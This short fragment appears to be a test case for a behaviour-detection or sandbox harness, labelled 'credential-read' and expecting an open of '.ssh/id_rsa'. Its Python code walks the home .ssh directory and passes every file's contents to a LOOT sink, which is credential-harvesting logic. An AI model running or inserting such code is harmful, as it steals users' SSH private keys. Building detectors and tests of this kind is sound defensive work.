#: {"class": "credential-read", "loader": "script", "expect": [["open", "\\.ssh/id_rsa$"]], "effect": {"loot": "ssh"}}
for d, _, fs in os.walk(HOME + "/.ssh"):
    for f in fs: LOOT(open(os.path.join(d, f)).read())
